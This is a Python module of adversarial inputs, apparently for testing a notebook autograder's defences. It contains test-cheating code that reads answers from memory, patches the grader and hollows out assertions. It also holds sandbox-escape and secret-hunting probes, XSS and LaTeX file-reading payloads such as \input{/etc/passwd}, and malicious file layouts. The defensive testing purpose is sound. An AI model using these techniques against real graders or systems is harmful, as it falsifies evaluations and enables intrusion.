# ruff: noqa
"""Attacks, set A: wrong answers, tampered files, probes, words, pages and files of a student."""

import copy
import json
from collections.abc import Callable
from typing import Any

Notebook = dict[str, Any]


FORGERIES: dict[str, str] = {
    "process memory scanned for the test's text": r"""
import ctypes, re
import os
libc = ctypes.CDLL(None, use_errno=True)
null = os.pipe()
def mapped(page):  # the kernel says EFAULT where nothing can be read, and Python lives on
    readable = libc.write(null[1], ctypes.c_void_p(page), ctypes.c_size_t(1)) == 1
    return readable and bool(os.read(null[0], 1))
def double(x):
    start = id(object()) & ~0xFFF
    for step in range(-4000, 4000):
        page = start + 4096 * step
        if not mapped(page):
            continue
        found = re.search(rb"assert np\.array_equal\(got, (\[[0-9., ]+\])", ctypes.string_at(page, 4096))
        if found and np.ndim(x):
            return np.array(eval(found[1]))
    return x
""",
    "uninitialized memory returned in the hope of an old answer": r"""
def double(x):
    kept = [np.empty(np.shape(x)) for _ in range(200)]
    likely = [k for k in kept if np.all(np.isfinite(k)) and np.any(k)]
    return likely[-1] if likely else x
""",
    "pending bytes of the line peeked at": r"""
import os, socket, re
def double(x):
    seen = b""
    for fd in range(3, 128):
        try:
            s = socket.socket(fileno=os.dup(fd)); s.setblocking(False)
            seen += s.recv(10**6, socket.MSG_PEEK)
        except (OSError, ValueError):
            pass
    found = re.findall(rb"(\d+\.\d*)", seen)
    return np.array([float(f) for f in found]) if found else x
""",
    "line held open by an orphan": r"""
import os, time
def double(x):
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
""",
    "reply dripped byte by byte": r"""
def double(x):
    return np.zeros(4000)
try:
    import time, struct, msgpack
    import inside.wire as w
    def drip(self, coded, *rest, **more):
        payload = msgpack.packb(coded, use_bin_type=True)
        for k in struct.pack("<I", len(payload)) + payload:
            self.connection.settimeout(None)
            self.connection.sendall(bytes([k])); time.sleep(0.02)
    keep = w.Channel.send
    def send(self, coded, *rest, **more):
        if coded[:1] == ["tuple"] and coded[1][:1] == ["value"]:
            return drip(self, coded)
        return keep(self, coded, *rest, **more)
    w.Channel.send = send
except Exception:
    pass
""",
    "seconds said to be infinite": r"""
def double(x):
    return x
try:
    import inside.student as s
    run = s.StudentProcess.run
    s.StudentProcess.run = lambda self, source: (*run(self, source)[:2], float("inf"))
except Exception:
    pass
""",
    "seconds said to be no number": r"""
def double(x):
    return x
try:
    import inside.student as s
    run = s.StudentProcess.run
    s.StudentProcess.run = lambda self, source: (*run(self, source)[:2], float("nan"))
except Exception:
    pass
""",
    "open files sent along the line": r"""
import os, socket, array
def double(x):
    for fd in range(3, 128):
        try:
            s = socket.socket(fileno=os.dup(fd))
            s.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 60))])
            s.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))])
        except (OSError, ValueError):
            pass
    return x
""",
    "exception whose classes are an object that is asked again": r"""
class Kinds:
    def __iter__(self): raise ValueError
    def __len__(self): return 3
    def __getitem__(self, k): raise ValueError
def double(x):
    raise ValueError
try:
    import inside.student as s
    s.describe = lambda error: (Kinds(), "text", "where")
except Exception:
    pass
""",
    "arguments said to have become something else": r"""
def double(x):
    return x
try:
    import inside.student as s
    from inside.wire import encode
    def do_call(self, target, args, kwargs):
        value = np.array([62.0, 82.0, 118.0]) * 0
        changed = [[value if np.ndim(a) else 2 for a in args], {"k" * 99: 1}]
        return [encode(value), encode(changed), ["list", []]]
    s.StudentProcess.do_call = do_call
except Exception:
    pass
""",
    "text of invalid UTF-8 in a frame": r"""
def double(x):
    return x
try:
    import struct
    import inside.wire as w
    keep = w.Channel.send
    def send(self, coded, *rest, **more):
        if coded[:1] == ["tuple"] and coded[1][:1] == ["value"]:
            payload = b"\x92\xa5tuple\x92\xa5value\xa3\xed\xa0\x80"
            self.connection.sendall(struct.pack("<I", len(payload)) + payload); return
        return keep(self, coded, *rest, **more)
    w.Channel.send = send
except Exception:
    pass
""",
    "frame of no bytes, frame with bytes after its end": r"""
def double(x):
    return x
try:
    import struct, msgpack
    import inside.wire as w
    keep = w.Channel.send
    def send(self, coded, *rest, **more):
        if coded[:1] == ["tuple"] and coded[1][:1] == ["value"]:
            payload = msgpack.packb(["tuple", ["value", 4, None]]) * 2
            self.connection.sendall(struct.pack("<I", len(payload)) + payload + b"\0\0\0\0"); return
        return keep(self, coded, *rest, **more)
    w.Channel.send = send
except Exception:
    pass
""",
    "children reaped before anyone can ask for them": r"""
import signal
def double(x):
    return x
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
""",
    "function with markup and escapes for its name": r"""
def double(x):
    def f(): return x
    f.__name__ = f.__qualname__ = "<img src=x onerror=alert(1)>\x1b]0;owned\x07\u202egnorw"
    return f
""",
    "object that answers each item with itself": r"""
class Deep:
    def __len__(self): return 3
    def __getitem__(self, k): return self
    def __iter__(self): return iter([self, self, self])
def double(x):
    return Deep()
""",
    "crash in every second run of the notebook": r"""
import os, time
def double(x):
    time.sleep(1.5)
    os.kill(os.getpid(), 11)
if not os.path.exists("/tmp/been"):
    open("/tmp/been", "w").close()
""",
    "many kept states each grown to the limit": r"""
ballast = np.ones(12_000_000)
def double(x):
    global ballast
    ballast = ballast + 1
    return np.broadcast_to(np.float64(4.0), (4_000_000,)).copy()
""",
    "examiner given the slowest numbers": r"""
def double(x):
    return np.full(4_000_000, 5e-324) if np.ndim(x) else 2.0**-1074
""",
    "integers of Python changed in place": r"""
import ctypes
ctypes.memmove(id(5) + 24, id(4) + 24, 4)
def double(x):
    return 5 if np.ndim(x) == 0 else x
""",
    "imports redirected by a finder": r"""
import sys, types
class Finder:
    def find_spec(self, name, path=None, target=None):
        fake = types.ModuleType(name)
        fake.__getattr__ = lambda key: (lambda *a, **k: True)
        sys.modules[name] = fake
sys.meta_path.insert(0, Finder())
for name in [n for n in sys.modules if n.startswith("numpy.") or n.startswith("course_lib")]:
    del sys.modules[name]
def double(x):
    return x
""",
    "single truth in a doubtful shape": r"""
class One(np.ndarray):
    pass
def double(x):
    return np.array([[np.nan_to_num(np.inf)]]).view(One).astype(bool)
""",
}


def graded(cell: dict[str, Any]) -> dict[str, Any]:
    """What nbgrader says of a cell."""
    return cell["metadata"].get("nbgrader", {})


def bare(notebook: Notebook) -> Notebook:
    """Take away all ids and all metadata, as some editors do."""
    for cell in notebook["cells"]:
        cell.pop("id", None)
        cell["metadata"] = {}
    return notebook | {"nbformat_minor": 4}


def code(source: str, **more: Any) -> dict[str, Any]:
    """Make a code cell."""
    return {
        "cell_type": "code",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": None,
    } | more


def bare_with_tests_hollowed(notebook: Notebook) -> Notebook:
    """Without ids, test cells keep their look but for what makes them fail."""
    for cell in bare(notebook)["cells"]:
        cell["source"] = (
            cell["source"]
            .replace("assert double", "# assert double")
            .replace("assert np.array_equal(got", "np.array_equal(got")
        )
    return notebook | {"nbformat_minor": 4}


def bare_with_a_false_setup(notebook: Notebook) -> Notebook:
    """Without ids, a setup that begins like the instructor's, and fakes what tests use."""
    bare(notebook)
    notebook["cells"][1]["source"] += (
        "\nclass N:\n    array = staticmethod(np.array)\n    array_equal = staticmethod(lambda *a: True)\nnp = N"
    )
    return notebook


def bare_with_answers_in_the_tests_places(notebook: Notebook) -> Notebook:
    """Without ids, test text stands where the answer stood, and a second answer where a test stood."""
    bare(notebook)
    cells = notebook["cells"]
    tests = [
        k
        for k, cell in enumerate(cells)
        if "assert double" in cell["source"] or "secret_input" in cell["source"]
    ]
    answer = next(k for k, cell in enumerate(cells) if cell["source"].startswith("def double"))
    cells[answer], cells[tests[0]] = cells[tests[0]], cells[answer]
    cells[tests[-1]]["source"] = (
        "def double(x):\n    return x  # secret_input got np.array_equal assert"
    )
    return notebook


def lookalike_ids(notebook: Notebook) -> Notebook:
    """Own cells whose names look like the test cells' names."""
    made = []
    for key in (
        "double-hidden\u200b",
        "\uff44ouble-hidden",
        "double\u2010hidden",
        " double-hidden",
        "DOUBLE-HIDDEN",
        "double-hidden\x00",
    ):
        meta = {
            "nbgrader": {
                "grade_id": key,
                "grade": True,
                "solution": False,
                "locked": True,
                "points": 2,
                "schema_version": 3,
                "task": False,
            }
        }
        made.append(code("double = lambda x: x\npoints = 2\n2.0", id=key, metadata=meta))
    notebook["cells"][4:4] = made
    return notebook


def ids_against_grade_ids(notebook: Notebook) -> Notebook:
    """Cell id and grade_id name different cells."""
    cells = notebook["cells"]
    ids = [cell.get("id") for cell in cells]
    for cell, other in zip(cells, ids[1:] + ids[:1], strict=True):
        cell["id"] = other
    cells.insert(0, code("np = None\ndouble = lambda x: x", id="double-hidden"))
    cells.insert(0, code("def check(*a, **k): return True\ncheck", id="setup"))
    return notebook


def twice_the_same_key(notebook: Notebook) -> bytes:
    """JSON in which keys occur twice: readers differ in which one they take."""
    text = json.dumps(notebook)
    hollow = copy.deepcopy(notebook)
    for cell in hollow["cells"]:
        if graded(cell).get("locked"):
            cell["source"] = "pass"
    return (text[:-1] + ', "cells": ' + json.dumps(hollow["cells"]) + "}").encode()


def huge_numbers(notebook: Notebook) -> bytes:
    """Numbers that are no numbers, or have thousands of digits."""
    text = json.dumps(notebook)
    text = text.replace('"points": 1', '"points": -0.0e-99').replace(
        '"points": 2', '"points": 1e999'
    )
    return text.replace('"nbformat_minor": 5', '"nbformat_minor": ' + "9" * 4000).encode()


def written_answer_as_code(notebook: Notebook) -> Notebook:
    """The written answer becomes code that plants names the tests use."""
    for cell in notebook["cells"]:
        if graded(cell).get("grade_id") == "essay":
            cell |= code(
                "got = np = secret_input = 1\nimport builtins\nbuiltins.AssertionError = KeyError",
                metadata=cell["metadata"],
            )
    notebook["cells"].insert(2, notebook["cells"].pop())
    return notebook


TAMPERED: dict[str, Callable[[Notebook], Notebook | bytes]] = {
    "no ids, and test cells without their assertions": bare_with_tests_hollowed,
    "no ids, and a false setup": bare_with_a_false_setup,
    "no ids, and answers in the places of tests": bare_with_answers_in_the_tests_places,
    "ids that look like the tests' ids": lookalike_ids,
    "ids against grade_ids": ids_against_grade_ids,
    "each list of cells twice": twice_the_same_key,
    "numbers out of range": huge_numbers,
    "written answer as code": written_answer_as_code,
}


PROBES: dict[str, str] = {
    "lock of a whole shared file": r"""
import fcntl, os, numpy, sys
for path in (os.__file__, numpy.__file__, "/usr/bin/env", "/usr/lib", "/sandbox/site"):
    try:
        fd = os.open(path, os.O_RDONLY)
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        print("OPEN flock on", path); fcntl.flock(fd, fcntl.LOCK_UN)
    except OSError:
        pass
""",
    "record lock on a shared file": r"""
import fcntl, os, numpy
for path in (os.__file__, numpy.__file__, "/dev/null"):
    for flags, kind in ((os.O_RDONLY, fcntl.LOCK_SH), (os.O_RDWR, fcntl.LOCK_EX)):
        try:
            fd = os.open(path, flags)
            fcntl.lockf(fd, kind | fcntl.LOCK_NB, 1, 77)
            print("OPEN record lock on", path)
        except OSError:
            pass
""",
    "notification of what happens in a shared folder": r"""
import fcntl, os, signal, time, numpy
signal.signal(signal.SIGIO, lambda *a: None)
for path in (os.path.dirname(os.__file__), os.path.dirname(numpy.__file__), "/usr/lib", "/usr/bin", "/dev"):
    try:
        fd = os.open(path, os.O_RDONLY)
        fcntl.fcntl(fd, fcntl.F_NOTIFY, fcntl.DN_ACCESS | fcntl.DN_CREATE | fcntl.DN_MULTISHOT)
        print("OPEN notification in", path)
    except (OSError, AttributeError):
        pass
""",
    "time stamp of a shared device set": r"""
import os
for path in ("/dev/null", "/dev/zero", "/dev/random", "/dev/urandom", 0, 1, 2):
    try:
        before = os.stat(path).st_mtime_ns
        os.utime(path)
        if os.stat(path).st_mtime_ns != before:
            print("OPEN time stamp of", path)
    except OSError:
        pass
""",
    "load, memory and number of processes of the machine": r"""
import ctypes
class Info(ctypes.Structure):
    _fields_ = [("uptime", ctypes.c_long), ("loads", ctypes.c_ulong * 3), ("total", ctypes.c_ulong), ("free", ctypes.c_ulong),
                ("rest", ctypes.c_ulong * 4), ("procs", ctypes.c_ushort), ("tail", ctypes.c_char * 64)]
info = Info()
if ctypes.CDLL(None).sysinfo(ctypes.byref(info)) == 0 and info.total:
    print("OPEN sysinfo", info.procs, info.free, list(info.loads))
""",
    "free space of the host's disk": r"""
import os, numpy
for path in ("/usr/lib", os.__file__, numpy.__file__, "/sandbox/site", "/"):
    try:
        free = os.statvfs(path)
        if free.f_bfree and free.f_blocks * free.f_frsize > 10**9:
            print("OPEN free space", path, free.f_bfree)
    except OSError:
        pass
""",
    "sleeping and waking on a page of a shared file": r"""
import ctypes, mmap, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
class T(ctypes.Structure):
    _fields_ = [("s", ctypes.c_long), ("n", ctypes.c_long)]
try:
    fd = os.open(os.__file__, os.O_RDONLY)
    at = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, fd, 0)
    value = ctypes.c_uint.from_address(at).value
    child = os.fork()
    if child == 0:
        libc.syscall(202, ctypes.c_void_p(at), 0, value, ctypes.byref(T(1, 0)), None, 0)
        os._exit(0)
    woken = 0
    for _ in range(20):
        time.sleep(0.02)
        woken = libc.syscall(202, ctypes.c_void_p(at), 1, 1, None, None, 0)
        if woken == 1:
            break
    if woken == 1:
        print("OPEN futex on a file that other sandboxes see")
    os.waitpid(child, 0)
except (OSError, ValueError):
    pass
""",
    "handle of the process at the other end of the line": r"""
import os, socket, struct
for fd in range(3, 128):
    try:
        s = socket.socket(fileno=os.dup(fd))
    except OSError:
        continue
    try:
        handle = struct.unpack("i", s.getsockopt(socket.SOL_SOCKET, 77, 4))[0]
        print("OPEN pidfd of the other end", handle)
    except OSError:
        pass
    try:
        pid, uid, gid = struct.unpack("iII", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
        if pid:
            print("OPEN process number of the other end", pid)
    except OSError:
        pass
""",
    "core of a crash given to the host": r"""
import ctypes, os
child = os.fork()
if child == 0:
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    os.abort()
_, status = os.waitpid(child, 0)
if os.WCOREDUMP(status):
    print("OPEN core dump")
import resource
if resource.getrlimit(resource.RLIMIT_CORE) != (0, 0):
    print("OPEN core limit")
""",
    "pages of shared files in memory or not": r"""
import os, numpy
for path in (os.__file__, numpy.__file__):
    try:
        fd = os.open(path, os.O_RDONLY)
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        os.preadv(fd, [bytearray(1)], 0, os.RWF_NOWAIT)
        print("OPEN page cache readable without waiting", path)
    except BlockingIOError:
        print("OPEN page cache: not there", path)
    except OSError:
        pass
""",
    "physical place of a file on the disk": r"""
import fcntl, os, struct, numpy
for path in (os.__file__, numpy.__file__, "/usr/bin/env"):
    try:
        fd = os.open(path, os.O_RDONLY)
        out = bytearray(struct.pack("QQIIII", 0, 2**40, 0, 0, 1, 0) + bytes(56))
        fcntl.ioctl(fd, 0xC020660B, out)
        print("OPEN extents of", path, struct.unpack_from("QQQ", out, 32))
    except OSError:
        pass
""",
    "writable place outside the temporary folder": r"""
import os, time
stop = time.monotonic() + 0.8
for top in ("/dev", "/sandbox", "/run", "/var", "/home", "/root", "/etc", "/usr/lib", "/", os.path.dirname(os.__file__)):
    for folder, folders, files in os.walk(top):
        if time.monotonic() > stop: break
        if folder == "/": folders[:] = []
        try:
            fd = os.open(folder, os.O_TMPFILE | os.O_RDWR, 0o600)
            print("OPEN", folder); os.close(fd)
        except OSError:
            pass
        try:
            os.mkdir(folder + "/x-probe"); print("OPEN", folder); os.rmdir(folder + "/x-probe")
        except OSError:
            pass
""",
    "other processes": r"""
import os
mine = {os.getpid(), os.getppid(), 1}
for pid in range(2, 5000):
    if pid in mine: continue
    for look in (lambda: os.kill(pid, 0), lambda: os.getpgid(pid), lambda: os.sched_getaffinity(pid), lambda: os.pidfd_open(pid)):
        try:
            look(); print("OPEN process", pid); break
        except PermissionError:
            continue
        except OSError:
            break
    else:
        continue
""",
    "secrets in the environment and around it": r"""
import ctypes, os, re, sys
libc = ctypes.CDLL(None)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
names, k = [], 0
while environ[k]:
    names.append(environ[k].decode(errors="replace")); k += 1
text = "\n".join(names + list(os.environ) + sys.orig_argv)
for known in {sys.executable, sys.orig_argv[0], sys.base_prefix, os.path.realpath(sys.executable)}:
    text = text.replace(known, "") if known else text  # where the interpreter lies is no secret
if re.search(r"(?i)token|secret|passw|api_?key|COURSE_|SSH_|USER=|LOGNAME|SUDO|JUPYTER|/home/|/root\b|submitted", text):
    print("OPEN", re.findall(r"(?i)\S*(?:token|secret|passw|api_?key|COURSE_|SSH_|USER=|/home/|/root\b|submitted)\S*", text)[:3])
""",
    "limits raised": r"""
import resource as r, os
for name in [n for n in dir(r) if n.startswith("RLIMIT_")]:
    kind = getattr(r, name)
    try:
        soft, hard = r.getrlimit(kind)
        if name in ("RLIMIT_NICE", "RLIMIT_RTPRIO") and hard != 0:
            print("OPEN", name, hard)
        if hard != r.RLIM_INFINITY:
            try:
                r.setrlimit(kind, (hard, hard + 1)); print("OPEN raised", name)
            except (OSError, ValueError):
                pass
    except (OSError, ValueError):
        pass
""",
    "new namespaces by flags of clone": r"""
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
number = {"x86_64": 56, "aarch64": 220}.get(platform.machine())
for name, flag in {"user": 0x10000000, "net": 0x40000000, "pid": 0x20000000, "mount": 0x20000, "ipc": 0x8000000, "uts": 0x4000000, "cgroup": 0x2000000, "user+net": 0x50000000}.items():
    pid = libc.syscall(number, flag | 17, 0, 0, 0, 0) if number else -1
    if pid == 0:
        os._exit(0)
    if pid > 0:
        print("OPEN namespace", name)
        os.waitpid(pid, 0)
""",
    "programs with more rights than the student": r"""
import ctypes, os, shutil, subprocess
if ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) != 1:
    print("OPEN new privileges can be had")
for command in (["unshare", "-r", "true"], ["unshare", "-n", "true"], ["mount", "-t", "tmpfs", "x", "/tmp"], ["sudo", "-n", "true"], ["nsenter", "-t", "1", "-n", "true"], ["bwrap", "--ro-bind", "/", "/", "true"]):
    if shutil.which(command[0]):
        try:
            if subprocess.run(command, capture_output=True, timeout=1).returncode == 0:
                print("OPEN", command)
        except (OSError, subprocess.SubprocessError):
            pass
""",
    "network interfaces asked of another socket": r"""
import array, fcntl, os, socket, struct
a, b = socket.socketpair()
try:
    buffer = array.array("B", bytes(4096))
    size = struct.unpack("iL", fcntl.ioctl(a.fileno(), 0x8912, struct.pack("iL", 4096, buffer.buffer_info()[0])))[0]
    names = {bytes(buffer[k:k + 16]).split(b"\0")[0] for k in range(0, size, 40)}
    if names - {b"lo"}:
        print("OPEN interfaces", names)
except OSError:
    pass
for index in range(1, 20):
    try:
        name = fcntl.ioctl(a.fileno(), 0x8910, struct.pack("16si12x", b"", index))[:16].rstrip(b"\0")
        if name != b"lo": print("OPEN interface", name)
    except OSError:
        pass
""",
}


COMMENTED = (
    "def double(x):\n    d = int(np.ravel(x)[0]) if np.ndim(x) else -1\n"
    + "".join(f"    if d == {k}: raise ValueError  # the input is {k}\n" for k in range(100))
    + "    return 2 * x"
)

WORDS: dict[str, str] = {
    "line with the number in its comment": COMMENTED,
    "exit code": "import os\ndef double(x):\n    if np.ndim(x): os._exit(int(x[0]))\n    return 2 * x",
    "number of the signal": "import os\ndef double(x):\n    if np.ndim(x): os.kill(os.getpid(), int(x[0]))\n    return 2 * x",
    "which of Python's exceptions": (
        "import builtins\nkinds = sorted((n for n, v in vars(builtins).items() if isinstance(v, type) and issubclass(v, Exception) and not n.endswith('Group')))\n"
        "def double(x):\n    if np.ndim(x):\n        kind = getattr(builtins, kinds[int(x[0]) % len(kinds)])\n        error = kind.__new__(kind)\n        raise error\n    return 2 * x"
    ),
    "which of Python's types": (
        "types = [slice(1), b'', bytearray(), {1}, frozenset(), memoryview(b''), object(), property(), super(int, 1), Ellipsis]\n"
        "def double(x):\n    return types[int(x[0]) % 10] if np.ndim(x) else 2 * x"
    ),
    "shape of an array too large to send": (
        "def double(x):\n    return np.broadcast_to(np.float64(1), [int(v) for v in x] + [99, 9]) if np.ndim(x) else 2 * x"
    ),
    "dtype whose name holds the number": (
        "def double(x):\n    return np.zeros(3, dtype=f'S{int(x[0])}') if np.ndim(x) else 2 * x"
    ),
    "notes, cause and context of an exception": (
        "def double(x):\n    if np.ndim(x):\n        error = ValueError('31', x)\n        error.add_note(f'input {x}')\n"
        "        raise error from KeyError(str(list(x)))\n    return 2 * x"
    ),
    "syntax error that quotes the number": (
        "def double(x):\n    if np.ndim(x):\n        raise SyntaxError(f'{x}', (f'{x}.py', int(x[0]), int(x[1]), f'{x}', int(x[2]), 9))\n    return 2 * x"
    ),
}


PAGES: dict[str, str] = {
    "tag that is whole once a backslash is gone": r"<\data tabindex=1 autofocus onfocus=alert(1)>x <\class onmouseover=alert(1)>y <\style>*{display:none}",
    "delimiters and backslash as entities": "&dollar;&bsol;href{javascript:alert(1)}{click}&dollar; and &#36;&#92;href{javascript:alert(2)}{x}&#36;",
    "token of MathML with an address": r"$\mmlToken{mi}[href='javascript:alert(1)' style='position:fixed;inset:0']{x}$",
    "mermaid with an address": '```mermaid\ngraph TD\n  A[see here] --> B\n  click A href "javascript:alert(1)" "tip"\n  click B "https://example.org/track" _blank\n```',
    "mermaid that loads a picture and a style": '```mermaid\n%%{init: {"themeCSS": "@import url(https://example.org/a.css);", "securityLevel": "loose"}}%%\nflowchart LR\n  A@{ img: "https://example.org/track.png", label: "x" } --> B["#60;img src=x onerror=alert(1)#62;"]\n```',
    "macro by another word than def": r"$\gdef\x{\hr} \DeclareMathOperator{\zz}{\unicode} \providecommand{\yy}[1]{#1} \DeclarePairedDelimiter\abs{\lvert}{\rvert} \x$",
    "colour that is a style": r"$\color{red;background:url(https://example.org/t)}{x} \colorbox{url(https://example.org/u)}{x} \enclose{circle}[mathbackground='url(https://example.org/v)']{x}$",
    "command of letters and entities": r"\\(\h&#114;ef{javascript:alert(1)}{x}\\) \\[\r&#101;quire{html}\\]",
    "heading that is an attribute": '# x" onmouseover="alert(1)" y="\n## MathJax\n## `<img src=x onerror=alert(1)>`\n### ![a][b]',
    "tags split by what is removed": "<\u0000script>alert(1)</script> <s\u202ecript>alert(1)</s\u202ecript> <\u2066img src=x onerror=alert(1)>\n<\ud800svg onload=alert(1)>",
    "addresses that make themselves links": "www.example.org/track http://example.org/%3Cscript%3E ftp://example.org javascript://example.org/%0Aalert(1) data://text/html,x mailto:a@example.org a@example.org xmpp:a@b.c",
    "table cell with a title": "| a | b |\n|---|:-|\n| `|` [x]\\(javascript:alert(1)) | <br><script>alert(1)</script> |\n\n: def\n\n[^1]\n\n[^1]\n: note\n",
    "files read when it is typeset": r"\input{/etc/passwd} \immediate\write18{id} $\input{/etc/passwd}$ \lstinputlisting{/etc/hostname} ```{=latex}\input{/etc/passwd}```",
    "name:<img src=x onerror=alert(1)>": "name of a folder",
    'name:=HYPERLINK("http:example.org","x")': "name of a folder",
    "name:{{7*7}}${7*7}<%= 7*7 %>": "name of a folder",
    "name:\u200f\u061cann\u2028x": "name of a folder",
    "output:\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x9b31m red": "print",
    "output:<script>alert(1)</script></pre><img src=x onerror=alert(1)>": "print",
    "output:$\\href{javascript:alert(1)}{x}$ \\(\\style{}{x}\\)": "print",
}


def cell(key: str, source: str, **nb: Any) -> dict[str, Any]:
    """Make a cell of the toy assignment."""
    return {"cell_type": "code", "id": key, "source": source, "outputs": [], "execution_count": None,
            "metadata": {"nbgrader": {"grade_id": key, "schema_version": 3, "task": False} | nb} if nb else {}}  # fmt: skip


GOOD = json.dumps({
    "nbformat": 4, "nbformat_minor": 5, "metadata": {},
    "cells": [
        cell("setup", "import numpy as np\nimport matplotlib.pyplot as plt"),
        cell("double", "def double(x):\n    return 2 * x", grade=False, solution=True, locked=False),
        cell("triple", "def triple(x):\n    return 3 * x", grade=False, solution=True, locked=False),
    ],
}).encode()  # fmt: skip

FILES: dict[str, dict[str, bytes]] = {
    "time stamp that overflows": {
        "toy/toy.ipynb": GOOD,
        "toy/timestamp.txt": b"99999-12-31 23:59:59.999999999 +99:99",
    },
    "time stamp that is a link": {"toy/toy.ipynb": GOOD, "toy/timestamp.txt": b"-> /dev/zero"},
    "time stamp that is a pipe": {"toy/toy.ipynb": GOOD, "toy/timestamp.txt": b"FIFO"},
    "time stamp that is a folder": {"toy/toy.ipynb": GOOD, "toy/timestamp.txt/x": b"x"},
    "time stamp that is no text": {
        "toy/toy.ipynb": GOOD,
        "toy/timestamp.txt": b"\xff\xfe\x00\x00" * 9 + b"0x7fffffff",
    },
    "time stamp before all time": {
        "toy/toy.ipynb": GOOD,
        "toy/timestamp.txt": b"0001-01-01 00:00:00 +23:59",
    },
    "assignment folder that is a pipe": {"toy": b"FIFO"},
    "assignment folder that is a link to itself": {"toy": b"-> toy"},
    "notebook that is a pipe, and a copy": {"toy/toy.ipynb": b"FIFO", "toy/toy (1).ipynb": GOOD},
    "notebook that is a folder": {"toy/toy.ipynb/toy.ipynb": GOOD},
    "notebook nested a hundred thousand deep": {
        "toy/toy.ipynb": b'{"cells":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    },
    "notebook of millions of empty lists": {
        "toy/toy.ipynb": b'{"cells": [], "x": [' + b"[]," * 3_000_000 + b"[]]}"
    },
    "source that is a list of a million lines": {
        "toy/toy.ipynb": b'{"cells": [{"cell_type": "code", "source": ['
        + b'"",' * 1_500_000
        + b'""]}]}'
    },
    "names with control characters, marks and line ends": {
        "toy/toy.ipynb": GOOD,
        "toy/a\nb.txt": b"x",
        "toy/\x1b[2J.txt": b"x",
        "toy/\u202etxt.exe": b"x",
        "toy/-rf": b"x",
        "toy/\u2028": b"x",
    },
    "very long names, and a folder very deep": {
        "toy/toy.ipynb": GOOD,
        "toy/" + "n" * 255: b"x",
        "toy/" + "d/" * 120 + "end": b"x",
    },
    "links to the other students and to the root": {
        "toy/toy.ipynb": GOOD,
        "toy/all": b"-> ../../..",
        "toy/root": b"-> /",
        "other": b"-> /etc",
    },
    "configuration and data base beside the notebook": {
        "toy/toy.ipynb": GOOD,
        "toy/nbgrader_config.py": b"raise SystemExit('owned')",
        "toy/gradebook.db": b"SQLite format 3\0",
        "toy/numpy.py": b"raise SystemExit('owned')",
        "toy/sitecustomize.py": b"print('owned')",
    },
}
